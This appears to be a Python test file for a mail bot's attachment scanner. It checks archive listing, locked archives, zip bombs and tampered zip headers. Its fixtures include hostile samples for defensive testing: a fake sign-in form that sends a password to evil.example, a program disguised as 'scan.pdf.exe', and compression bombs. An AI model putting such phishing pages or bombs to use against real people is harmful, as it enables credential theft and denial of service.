"""If these fail, a program hides in an archive, or an archive takes the bot down."""

import gzip
import io
import tarfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.mail.attachments import Budget, attachment
from tests.growth import grows_linearly
from tests.mail.attachments import made

PAGE = "<form action='https://evil.example/x'><input type=password name=pw></form><p>Sign in to read</p>"


def tar(*names: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name))
    return out.getvalue()


@pytest.mark.parametrize(
    "data, kind",
    [
        (made.zipped({"a/scan.pdf.exe": "x", "b.txt": "y"}), "zip"),
        (made.rar4("a/scan.pdf.exe", "b.txt"), "rar"),
        (made.rar5("a/scan.pdf.exe", "b.txt"), "rar"),
        (made.seven_zip("a/scan.pdf.exe", "b.txt"), "7z"),
        (made.iso("a/scan.pdf.exe", "b.txt"), "iso"),
        (made.cab("a/scan.pdf.exe", "b.txt"), "cab"),
        (tar("a/scan.pdf.exe", "b.txt"), "tar"),
    ],
)
def test_the_names_inside_are_listed(data: bytes, kind: str) -> None:
    found = made.read("a.bin", data)
    assert (found.real, set(found.names)) == (kind, {"a/scan.pdf.exe", "b.txt"})


def test_a_program_inside_is_named_and_never_unpacked() -> None:
    assert made.unread("a.zip", made.zipped({"run.exe": "MZ"})) == {"not unpacked"}


@pytest.mark.parametrize(
    "data",
    [
        made.locked({"a.exe": "x"}),
        made.rar4("a.exe", encrypted=True),
    ],
)
def test_a_locked_archive_shows_its_names_and_says_so(data: bytes) -> None:
    found = made.read("a.zip", data)
    assert (found.names, found.encrypted) == (("a.exe",), True)
    assert "encrypted" in made.unread("a.zip", data)


def test_a_rar_with_a_locked_list_says_so() -> None:
    data = b"Rar!\x1a\x07\x00\x00\x00\x73\x80\x00\x0d\x00" + bytes(40)
    assert made.read("a.rar", data).encrypted


def test_a_page_that_was_zipped_is_read() -> None:
    found = made.read("a.zip", made.zipped({"scan.html": PAGE}))
    assert "Sign in to read" in found.text
    assert [form.action for form in found.forms] == ["https://evil.example/x"]
    assert made.unread("a.zip", made.zipped({"scan.html": PAGE})) == set()


def test_a_page_that_was_zipped_twice_is_read() -> None:
    inner = made.zipped({"scan.html": PAGE})
    found = made.read("a.zip", made.zipped({"inner.zip": inner}))
    assert "scan.html" in found.names
    assert "Sign in to read" in found.text


def test_a_pdf_and_a_mail_inside_are_read() -> None:
    mail = "From: Ann <ann@shop.example>\nSubject: Your order\nTo: b@x.example\n\nCall 020 7946 0123"
    found = made.read("a.zip", made.zipped({"bill.pdf": made.pdf(made.lines("Bill 7")), "m.eml": mail}))
    for part in ("Bill 7", "From: Ann <ann@shop.example>", "Subject: Your order", "Call 020 7946 0123"):
        assert part in found.text


def test_a_truncated_zip_still_shows_its_names() -> None:
    whole = made.zipped({"a.exe": "x" * 50, "b.exe": "y"})
    assert made.read("a.zip", whole[: whole.find(b"PK\x01\x02")]).names == ("a.exe", "b.exe")


def test_a_directory_that_lies_hides_no_name() -> None:
    whole = bytearray(made.zipped({"hidden.exe": "x"}))
    at = whole.rfind(b"hidden.exe")
    whole[at : at + 10] = b"letter.txt"
    assert set(made.read("a.zip", bytes(whole)).names) == {"hidden.exe", "letter.txt"}


def test_a_zip_bomb_is_listed_and_never_unpacked() -> None:
    budget = Budget()
    bomb = made.zipped({f"{n}.html": bytes(3_000_000) for n in range(4)})
    found, why = attachment("a.zip", "", bomb, inline=False, budget=budget)
    assert len(found.names) == 4
    assert "too large" in {one.why for one in why}
    assert Budget().unpacked - budget.unpacked < 5_000_000


def test_a_bomb_whose_header_lies_about_its_size_stops() -> None:
    bomb = bytearray(made.zipped({"a.html": bytes(30_000_000)}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = bomb.find(mark)
        bomb[at + offset : at + offset + 4] = (100).to_bytes(4, "little")
    budget = Budget()
    attachment("a.zip", "", bytes(bomb), inline=False, budget=budget)
    assert Budget().unpacked - budget.unpacked <= 1_000_000


def test_ten_thousand_names_are_cut_and_told() -> None:
    data = made.zipped({f"{n}.bin": "" for n in range(1_500)})
    assert len(made.read("a.zip", data).names) == 1_000
    assert "too many" in made.unread("a.zip", data)


def test_gzip_is_looked_into_once() -> None:
    page = gzip.compress(PAGE.encode())
    assert "Sign in to read" in made.read("a.html.gz", page).text
    assert made.read("a.tgz", gzip.compress(tar("run.exe"))).names == ("run.exe",)
    assert made.read("a.svgz", gzip.compress(b"<svg><script>x</script></svg>")).scripts


def test_a_packed_seven_zip_list_is_unpacked() -> None:
    import lzma

    plain = made.seven_zip("a.exe")[32:]
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096, "lc": 3, "lp": 0, "pb": 2}]
    packed = lzma.compress(plain, lzma.FORMAT_RAW, filters=filters)
    header = b"\x17\x06\x00\x01\x09" + bytes([len(packed)]) + b"\x00\x07\x0b\x01\x00\x01\x23\x03\x01\x01\x05\x5d"
    header += (4096).to_bytes(4, "little") + b"\x0c" + bytes([len(plain)]) + b"\x00\x00"
    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(4) + len(packed).to_bytes(8, "little")
    data = start + len(header).to_bytes(8, "little") + bytes(4) + packed + header
    assert made.read("a.7z", data).names == ("a.exe",)


@given(st.binary(max_size=200), st.integers(0, 400), st.integers(0, 5))
def test_no_damage_raises(noise: bytes, at: int, which: int) -> None:
    wholes = (
        made.zipped({"a.html": PAGE}),
        made.rar4("a", "b"),
        made.rar5("a", "b"),
        made.seven_zip("a", "b"),
        made.iso("a", "b"),
        made.cab("a", "b"),
    )
    whole = wholes[which]
    made.read("a", whole[:at] + noise + whole[at + len(noise) :])
    made.read("a", whole[:8] + noise)


@pytest.mark.parametrize(
    "piece",
    [
        b"PK\x03\x04",
        b"PK\x03\x04" + bytes(22) + b"\x01\x00\x00\x00a",
        b"PK\x01\x02" + bytes(24) + b"\x01\x00" + bytes(16) + b"a",
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(16) + b"\x06\x00\x00\x00a.html" + zlib.compress(b"x")[2:-4],
    ],
)
def test_listing_a_zip_is_linear(piece: bytes) -> None:
    grows_linearly(lambda data: made.read("a.zip", data), lambda n: b"PK\x03\x04" + piece * n, largest=1 << 15)
